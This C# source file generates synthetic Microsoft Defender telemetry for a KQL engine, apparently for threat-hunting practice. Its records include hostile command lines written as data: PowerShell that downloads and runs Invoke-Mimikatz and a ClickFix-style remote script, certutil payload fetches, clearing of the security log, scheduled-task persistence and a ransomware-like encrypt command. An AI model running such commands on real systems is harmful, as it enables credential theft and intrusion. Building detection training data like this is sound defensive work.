using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;

namespace Defender365Typed.KqlEngine;

public sealed partial class SyntheticDataset
{
    /// <summary>
    /// The sensor signals around the stories, added last: listening ports and inbound connections of the servers, the SMB
    /// sweep of BloodHound's session collection, an RDP session from the developer workstation, network signature
    /// inspections of the downloads, and DeviceEvents the stories imply (the cleared security log, the scheduled task of
    /// the finance implant, AMSI and ASR detections, antivirus scans, a USB drive, a screenshot) plus DeviceLogonEvents of
    /// explicit credentials and a denied logon type.
    /// </summary>
    private sealed partial class Builder
    {
        private Dictionary<string, object?> DeviceEvent(DateTime t, Device d, User u, string action, string additional, string file = "", string folder = "",
            string process = "explorer.exe", string processCommand = "")
        {
            Dictionary<string, object?> r = Add("DeviceEvents", t);
            r["DeviceId"] = d.Id;
            r["DeviceName"] = d.Name;
            r["ActionType"] = action;
            r["FileName"] = file;
            r["FolderPath"] = file.Length > 0 ? folder + "\\" + file : "";
            r["SHA1"] = file.Length > 0 ? Sha1(file) : "";
            r["SHA256"] = file.Length > 0 ? Sha256(file) : "";
            r["MD5"] = file.Length > 0 ? Md5(file) : "";
            r["AccountDomain"] = u.Domain;
            r["AccountName"] = u.Name;
            r["AccountSid"] = u.Sid;
            r["LocalIP"] = d.Ip;
            r["InitiatingProcessFileName"] = process;
            r["InitiatingProcessFolderPath"] = @"c:\windows\system32\" + process;
            r["InitiatingProcessCommandLine"] = processCommand.Length > 0 ? processCommand : process;
            r["InitiatingProcessSHA1"] = Sha1(process);
            r["InitiatingProcessSHA256"] = Sha256(process);
            r["InitiatingProcessAccountDomain"] = u.Domain;
            r["InitiatingProcessAccountName"] = u.Name;
            r["InitiatingProcessAccountSid"] = u.Sid;
            r["InitiatingProcessAccountUpn"] = u.Upn;
            r["InitiatingProcessAccountObjectId"] = u.ObjectId;
            r["InitiatingProcessId"] = _pid++;
            r["InitiatingProcessParentFileName"] = "explorer.exe";
            r["ReportId"] = _reportId++;
            r["AdditionalFields"] = additional;
            return r;
        }

        private void DeviceSignals()
        {
            ServerNetwork();
            SignatureInspections();
            StoryDeviceEvents();
            ExplicitLogons();
        }

        private void ServerNetwork()
        {
            var system = new User("system", "nt authority", "S-1-5-18", "", "", "SYSTEM");
            (string Device, int Port, string Process)[] listeners =
            [
                ("srv-web-01", 80, "System"), ("srv-web-01", 443, "System"), ("srv-web-01", 3389, "svchost.exe"),
                ("srv-dc-01", 53, "dns.exe"), ("srv-dc-01", 88, "lsass.exe"), ("srv-dc-01", 389, "lsass.exe"), ("srv-dc-01", 445, "System"), ("srv-dc-01", 3389, "svchost.exe"),
                ("srv-file-01", 139, "System"), ("srv-file-01", 445, "System"), ("srv-file-01", 1433, "sqlservr.exe"), ("srv-file-01", 5985, "System"),
                ("linux-build-01", 22, "sshd"), ("linux-build-01", 8080, "java"),
                ("ws-dev-03", 3000, "node.exe"),
            ];
            foreach (var l in listeners)
            {
                Device d = DeviceNamed(l.Device);
                Dictionary<string, object?> r = Connection(now - TimeSpan.FromDays(2) + TimeSpan.FromMinutes(_random.Next(600)), d, "", 0, "", l.Process, 4, system, "ListeningConnectionCreated", "");
                r["RemotePort"] = null;
                r["LocalPort"] = l.Port;
                r["InitiatingProcessVersionInfoOriginalFileName"] = l.Process;
            }

            // Inbound connections to the internet-facing servers, and the DCSync's RPC connection to lsass on the domain controller.
            Device web = DeviceNamed("srv-web-01"), build = DeviceNamed("linux-build-01"), dc = DeviceNamed("srv-dc-01");
            (Device Device, int Port, string Process, string From)[] inbound =
            [
                (web, 443, "System", "198.51.100.23"), (web, 443, "System", "203.0.113.77"), (web, 3389, "svchost.exe", BruteIp),
                (build, 22, "sshd", "92.118.39.61"), (build, 22, "sshd", "203.0.113.10"), (build, 8080, "java", "195.3.146.118"),
            ];
            foreach (var c in inbound)
            {
                Dictionary<string, object?> r = Connection(Ago(TimeSpan.FromHours(12)), c.Device, c.From, _random.Next(49152, 65535), "", c.Process, 4, system, "InboundConnectionAccepted");
                r["LocalPort"] = c.Port;
                r["InitiatingProcessVersionInfoOriginalFileName"] = c.Process;
            }

            Dictionary<string, object?> rpc = Connection(now - TimeSpan.FromMinutes(30), dc, DeviceNamed("ws-finance-01").Ip, 52211, "", "lsass.exe", 680, system, "InboundConnectionAccepted", "Private");
            rpc["LocalPort"] = 49664;
            rpc["InitiatingProcessVersionInfoOriginalFileName"] = "lsass.exe";
            rpc["InitiatingProcessCommandLine"] = "lsass.exe";

            // BloodHound's session collection from srv-web-01: one PowerShell process reaches SMB on a sweep of addresses.
            User dave = UserNamed("dave");
            DateTime sweep = TakeoverStart + TimeSpan.FromMinutes(8.5);
            for (int i = 0; i < 14; i++)
            {
                string ip = i < 4 ? _devices[i].Ip : "10.0.1." + (40 + i).ToString(CultureInfo.InvariantCulture);
                Dictionary<string, object?> r = Connection(sweep + TimeSpan.FromSeconds(i), web, ip, 445, "", "powershell.exe", 91_337, dave, i < 4 ? "ConnectionSuccess" : "ConnectionFailed", "Private");
                r["InitiatingProcessCreationTime"] = sweep - TimeSpan.FromSeconds(30);
            }

            // erin administers the web server over RDP, a day and a half ago.
            Connection(now - TimeSpan.FromHours(36), DeviceNamed("ws-dev-03"), web.Ip, 3389, "", "mstsc.exe", 6620, UserNamed("erin"), remoteType: "Private");
        }

        private void SignatureInspections()
        {
            Device ws = DeviceNamed("ws-finance-01"), web = DeviceNamed("srv-web-01");
            User alice = UserNamed("alice");
            var pool = new User("defaultapppool", "IIS APPPOOL", "", "", "", "DefaultAppPool");
            (Device Device, User User, DateTime Time, string Ip, string Signature, string Content, string Process)[] inspections =
            [
                (ws, alice, now - TimeSpan.FromMinutes(105), C2Ip, "HTTP_Client", "GET /dl/invoice_viewer.exe HTTP/1.1", "msedge.exe"),
                (ws, alice, now - TimeSpan.FromMinutes(43), C2Ip, "HTTP_Client", "GET /payload.bin HTTP/1.1", "certutil.exe"),
                (ws, alice, now - TimeSpan.FromMinutes(37), C2Ip, "HTTP_Client", "GET /app.hta HTTP/1.1", "mshta.exe"),
                (web, pool, now - TimeSpan.FromHours(6) + TimeSpan.FromMinutes(12), C2Ip, "HTTP_Client", "GET /x.exe HTTP/1.1", "certutil.exe"),
                (web, pool, now - TimeSpan.FromHours(6), "198.51.100.23", "HTTP_Server", "POST /aspnet_client/help.aspx HTTP/1.1", "w3wp.exe"),
                (DeviceNamed("ws-dev-03"), UserNamed("erin"), now - TimeSpan.FromHours(20), "140.82.121.3", "SSH", "SSH-2.0-OpenSSH_9.5", "ssh.exe"),
            ];
            foreach (var s in inspections)
            {
                Dictionary<string, object?> r = Connection(s.Time, s.Device, s.Ip, s.Signature == "SSH" ? 22 : 80, "", s.Process, _pid++, s.User, "NetworkSignatureInspected");
                r["AdditionalFields"] = "{\"SignatureName\":\"" + s.Signature + "\",\"SignatureMatchedContent\":\"" + s.Content + "\",\"SamplePacketContent\":\"" + s.Content + "\"}";
            }
        }

        private void StoryDeviceEvents()
        {
            Device ws = DeviceNamed("ws-finance-01"), files = DeviceNamed("srv-file-01"), hr = DeviceNamed("ws-hr-02"), sales = DeviceNamed("ws-sales-04");
            User alice = UserNamed("alice"), dave = UserNamed("dave"), frank = UserNamed("frank"), grace = UserNamed("grace");

            // The security log cleared by the PsExec batch file.
            DeviceEvent(TakeoverStart + TimeSpan.FromMinutes(26), files, dave, "SecurityLogCleared", "{}", process: "wevtutil.exe", processCommand: "wevtutil.exe cl Security");

            // The finance implant persists as a scheduled task under AppData.
            DeviceEvent(now - TimeSpan.FromMinutes(58), ws, alice, "ScheduledTaskCreated",
                "{\"TaskName\":\"\\\\OneDrive Reporting Task\",\"TaskContent\":\"{\\\"Triggers\\\":{\\\"LogonTrigger\\\":{\\\"Enabled\\\":\\\"true\\\"}},\\\"Actions\\\":{\\\"Exec\\\":{\\\"Command\\\":\\\"%localappdata%\\\\\\\\Temp\\\\\\\\svc.exe\\\",\\\"Arguments\\\":\\\"-k\\\"}}}\"}",
                process: "schtasks.exe", processCommand: "schtasks.exe /create /tn \"OneDrive Reporting Task\" /tr \"%localappdata%\\Temp\\svc.exe -k\" /sc onlogon");

            // AMSI catches the Mimikatz script, ASR blocks the macro's executable content and a ransomware-like process.
            DeviceEvent(now - TimeSpan.FromMinutes(32), ws, alice, "AmsiScriptDetection", "{\"Description\":\"Invoke-Mimikatz detected in a PowerShell script\",\"ThreatName\":\"HackTool:PowerShell/Mimikatz\"}",
                process: "powershell.exe", processCommand: "powershell.exe -ep bypass -c \"IEX (iwr http://" + C2Url + "/im.ps1); Invoke-Mimikatz -DumpCreds\"");
            DeviceEvent(now - TimeSpan.FromMinutes(69), ws, alice, "AsrExecutableOfficeContentBlocked", "{\"IsAudit\":false}", "invoice.ocx", @"C:\Users\alice\AppData\Local\Temp",
                "winword.exe", "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\Invoice_4471.docm\"");
            DeviceEvent(now - TimeSpan.FromMinutes(71), files, UserNamed("svc_backup"), "AsrRansomwareAudited", "{\"IsAudit\":true}", "contracts.docx.locked", @"\\srv-file-01\share\finance",
                "svch0st.exe", "C:\\ProgramData\\svch0st.exe --encrypt \\\\srv-file-01\\share");
            DeviceEvent(now - TimeSpan.FromHours(20) + TimeSpan.FromMinutes(1), DeviceNamed("ws-sales-04"), dave, "AsrExecutableEmailContentBlocked", "{\"IsAudit\":false}",
                "Invoice_4471.zip", @"C:\Users\dave\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook", "outlook.exe");

            // Antivirus scans: a daily quick scan on most devices, the file server's last one a week ago.
            foreach (Device d in WindowsDevices)
            {
                int daysAgo = d == files ? 7 : 1;
                DeviceEvent(now.Date - TimeSpan.FromDays(daysAgo) + TimeSpan.FromHours(2), d, new User("system", "nt authority", "S-1-5-18", "", "", "SYSTEM"), "AntivirusScanCompleted",
                    "{\"ScanTypeIndex\":\"Quick\",\"Domain\":\"CONTOSO\"}", process: "MsMpEng.exe");
            }

            // frank plugs in a USB drive on the sales workstation; grace's screen is captured by the ClickFix payload.
            DeviceEvent(now - TimeSpan.FromHours(26), sales, frank, "PnpDeviceConnected",
                "{\"ClassName\":\"USB\",\"DeviceDescription\":\"USB Mass Storage Device\",\"VendorIds\":\"USB\\\\VID_0781&PID_5583\",\"DeviceId\":\"USB\\\\VID_0781&PID_5583\\\\4C530001230817113401\"}");
            DeviceEvent(now - TimeSpan.FromHours(26) + TimeSpan.FromSeconds(2), sales, frank, "PnpDeviceConnected",
                "{\"ClassName\":\"DiskDrive\",\"DeviceDescription\":\"SanDisk Ultra Fit USB Device\",\"VendorIds\":\"USBSTOR\\\\DiskSanDisk_Ultra_Fit\",\"DeviceId\":\"USBSTOR\\\\DISK&VEN_SANDISK&PROD_ULTRA_FIT\\\\4C530001230817113401&0\"}");
            DeviceEvent(now - TimeSpan.FromHours(2.4), hr, grace, "ScreenshotTaken", "{}", process: "powershell.exe",
                processCommand: "powershell -w hidden -c \"iwr https://captcha-check.cloud-verify.net/v.ps1 | iex\"");
            DeviceEvent(now - TimeSpan.FromHours(2.45), hr, grace, "PowerShellCommand", "{\"Command\":\"Invoke-WebRequest\"}", process: "powershell.exe");
            DeviceEvent(now - TimeSpan.FromHours(2.44), hr, grace, "PowerShellCommand", "{\"Command\":\"Add-Type\"}", process: "powershell.exe");
        }

        private void ExplicitLogons()
        {
            // runas /savecred on srv-web-01: a logon with explicit credentials started by dave's own process.
            Device web = DeviceNamed("srv-web-01");
            var helper = new User("helpdesk-tmp", "CONTOSO", "S-1-5-21-1004336348-1177238915-682003330-1190", "helpdesk-tmp@" + Domain, "", "Helpdesk Temp");
            Dictionary<string, object?> r = Logon(TakeoverStart + TimeSpan.FromMinutes(5.1), web, helper, "LogonSuccess", "Interactive", "", "");
            r["InitiatingProcessFileName"] = "runas.exe";
            r["InitiatingProcessAccountName"] = "dave";
            r["InitiatingProcessAccountDomain"] = "CONTOSO";
            r["InitiatingProcessAccountSid"] = UserNamed("dave").Sid;
            r["InitiatingProcessCommandLine"] = "runas.exe /savecred /user:CONTOSO\\helpdesk-tmp cmd.exe";
            r["IsLocalAdmin"] = false;

            // The new domain admin is refused an RDP logon on the HR workstation, whose policy does not allow it.
            Logon(now - TimeSpan.FromHours(3.9), DeviceNamed("ws-hr-02"), helper, "LogonFailed", "RemoteInteractive", web.Ip, "Private", 51122, "UnauthorizedLogonType");
        }
    }
}
